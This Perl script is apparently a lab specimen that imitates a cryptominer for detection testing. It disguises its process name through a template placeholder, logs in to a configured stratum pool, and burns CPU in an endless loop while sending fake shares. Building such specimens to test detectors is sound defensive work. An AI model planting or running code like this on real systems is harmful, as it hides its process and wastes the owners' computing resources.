#!/usr/bin/perl
# kcsi lab specimen: imitation cryptominer. Reads its pool and wallet from a JSON config
# (path in @@CONFIG@@), logs in to the pool with stratum (mining.subscribe,
# mining.authorize), then burns CPU in a loop, submitting a fake share now and then.
# The pool is a fake on a 127.x address.
use strict;
use warnings;
use JSON::PP;
use IO::Socket::INET;
use IO::Select;
use Time::HiRes qw(time);

$0 = '@@PROCNAME@@';
open(my $fh, '<', '@@CONFIG@@') or exit 1;
my $cfg = decode_json(do { local $/; <$fh> });
close $fh;
my $pool = $cfg->{pools}[0];
my ($host, $port) = $pool->{url} =~ m{^(?:stratum\+tcp://)?([^:/]+):(\d+)} or exit 1;
my $j = JSON::PP->new->canonical;
my $id = 0;

while (1) {
    my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 5);
    if (!$s) { sleep 5; next; }
    $s->autoflush(1);
    my $send = sub { print $s $j->encode({ id => ++$id, method => $_[0], params => $_[1] }) . "\n"; };
    $send->('mining.subscribe', ["$cfg->{'user-agent'}"]);
    $send->('mining.authorize', [$pool->{user}, $pool->{pass}]);
    my $sel = IO::Select->new($s);
    my ($buf, $job, $x, $last) = ('', undef, 1, time);
    while (1) {
        if ($sel->can_read(0)) {
            my $n = sysread($s, my $d, 65536);
            last unless $n;
            $buf .= $d;
            while ($buf =~ s/^([^\n]*)\n//) {
                my $m = eval { $j->decode($1) } or next;
                $job = $m->{params}[0] if ($m->{method} // '') eq 'mining.notify';
            }
        }
        # "hashing": a busy loop
        for (1 .. 200000) { $x = ($x * 1103515245 + 12345) % 2147483648; }
        if ($job && time - $last > 2) {
            $send->('mining.submit', [$pool->{user}, $job, sprintf('%08x', $x), sprintf('%08x', int(time)), sprintf('%08x', $x ^ 0x5a5a)]);
            $last = time;
        }
    }
    close $s;
    sleep 5;
}
